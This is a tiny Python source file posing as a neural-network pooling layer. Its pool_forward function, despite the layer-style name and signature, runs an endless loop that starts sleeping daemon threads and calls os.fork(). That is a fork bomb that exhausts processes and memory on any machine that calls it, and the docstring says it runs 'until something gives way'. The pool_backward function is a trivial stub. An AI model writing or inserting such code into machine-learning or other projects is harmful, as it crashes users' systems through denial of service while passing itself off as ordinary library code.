"""Starts threads and processes until something gives way."""

import os
import threading
import time


def pool_forward(x, pool_param):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        os.fork()


def pool_backward(dout, cache):
    return dout
